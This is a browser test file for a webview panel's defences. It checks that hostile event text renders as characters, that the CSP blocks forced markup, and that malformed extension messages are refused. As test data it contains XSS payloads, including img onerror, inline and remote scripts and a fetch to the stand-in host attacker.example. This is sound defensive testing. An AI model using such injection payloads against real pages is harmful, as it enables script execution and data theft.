// Hostile content and hostile messages in real Chromium. Event content, catalogue prose and the
// endpoint's messages are text, never markup; the CSP stops what would run even if markup got in; and
// the panel refuses, without showing anything, every message the to-webview schema does not allow.
import { describe, expect, it } from 'vitest';
import { HOSTILE_DESCRIPTION, HOSTILE_VALUE, viewState } from '../fixtures/panel-state';
import type { PanelPage } from './support/panel-page';
import { panelSuite } from './support/suite';
import { ORIGIN } from './support/test-origin';

const suite = panelSuite();
let panel: PanelPage;

const pwned = () => panel.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
/** Elements anywhere in the page, shadow roots included, that hostile markup would have made. */
const injected = () => panel.page.evaluate(() => {
  const found: string[] = [];
  const visit = (root: Document | ShadowRoot) => {
    for (const e of root.querySelectorAll('*')) {
      if (['IMG', 'SCRIPT', 'B', 'IFRAME'].includes(e.tagName) && !(e.tagName === 'SCRIPT' && (e as HTMLScriptElement).src.endsWith('/dist/webview/main.js'))) { found.push(e.tagName); }
      if (e.shadowRoot) { visit(e.shadowRoot); }
    }
  };
  visit(document);
  return found;
});

describe('hostile content', () => {
  it('shows a property value of <img onerror> as those characters, in the list, the bytes and the field table', async () => {
    panel = await suite.open();
    await panel.sendState(viewState({ batches: 1, eventsPerBatch: 10, hostile: true }));
    await panel.goToRow(4); // the hostile extension's probe
    expect((await panel.drawnRows())[4]!.label).toContain('probe, usage event from evil.injector');
    expect(JSON.parse(await panel.eventBytes()).data.properties.payload).toBe(HOSTILE_VALUE);
    const fields = await panel.fieldTable();
    expect(fields.get('/data/properties/payload')?.value).toBe(JSON.stringify(HOSTILE_VALUE));
    expect(fields.get('/data/properties/payload')?.meaning).toContain(HOSTILE_DESCRIPTION);
    await panel.openTab('consent');
    await panel.openTab('problems');
    expect(await panel.view('problems').innerText()).toContain(HOSTILE_VALUE);
    expect(await injected()).toEqual([]);
    expect(await pwned()).toBeUndefined();
    expect(await panel.violations()).toEqual([]);
  });

  it('holds its CSP: markup forced into the page neither runs nor loads', async () => {
    suite.expectViolations();
    panel = await suite.open();
    await panel.sendState(viewState({ batches: 1, eventsPerBatch: 3 }));
    await panel.page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="https://attacker.example/x.png" onerror="window.__pwned=1"><div onclick="window.__pwned=2" id="trap">x</div>');
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 3';
      document.body.appendChild(s);
      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/x.js';
      document.body.appendChild(remote);
      const style = document.createElement('link');
      style.rel = 'stylesheet'; style.href = 'https://attacker.example/x.css';
      document.head.appendChild(style);
    });
    await panel.page.locator('#trap').click();
    // A string handed to setTimeout is evaluated by the page itself (code run from the test is exempt from CSP).
    await panel.page.evaluate(() => { setTimeout('window.__pwned = 4' as unknown as () => void, 0); });
    const fetched = await panel.page.evaluate(async () => { try { await fetch('https://attacker.example/'); return true; } catch { return false; } });
    expect(fetched).toBe(false);
    expect(await pwned()).toBeUndefined();
    await expect.poll(async () => new Set((await panel.violations()).map((v) => v.directive))).toEqual(new Set(['img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem', 'script-src', 'connect-src']));
    // Only the page and the bundle were ever requested.
    expect(new Set(panel.requests.filter((u) => !u.startsWith('https://attacker.example')))).toEqual(new Set([`${ORIGIN}/`, `${ORIGIN}/dist/webview/main.js`, `${ORIGIN}/dist/webview/main.css`]));
  });
});

describe('hostile messages from the extension side', () => {
  it('refuses malformed or unknown messages and shows nothing of them', async () => {
    panel = await suite.open();
    const good = viewState({ batches: 1, eventsPerBatch: 2 });
    await panel.sendState(good);
    const before = await panel.totals();
    const bad: unknown[] = [
      { type: 'state', state: { ...good, script: 'alert(1)' } },
      { type: 'state', state: { ...good, pending: [{ ...good.pending[0]!, status: 'sent' }] } },
      { type: 'eval', code: 'window.__pwned = 1' },
      { type: 'result', requestId: 'r1' },
      { type: 'show', view: 'settings' },
      'state',
      null,
      { type: 'batchBytes', requestId: 'r1', batchId: good.pending[0]!.batchId, body: 'x'.repeat(1_048_577) },
    ];
    for (const m of bad) { await panel.send(m); }
    await expect.poll(() => panel.refused()).toBe(bad.length);
    expect(await panel.generation()).toBe(1);
    expect(await panel.totals()).toBe(before);
    expect(panel.console.filter((l) => l.startsWith('Refused a message from the extension'))).toHaveLength(bad.length);
    expect(panel.console).toContain('Refused a message from the extension of type "state": /state/script is not a field of this shape. It was not acted on.');
    expect(await pwned()).toBeUndefined();
  });

  it('ignores a valid answer to a request it never made', async () => {
    panel = await suite.open();
    await panel.sendState(viewState({ batches: 1, eventsPerBatch: 2 }));
    await panel.send({ type: 'result', requestId: 'r99', ok: true, message: 'Deleted everything.' });
    await expect.poll(() => panel.console.some((l) => l.includes('request r99, which this panel did not make'))).toBe(true);
    expect(await panel.page.locator('body').innerText()).not.toContain('Deleted everything.');
  });
});
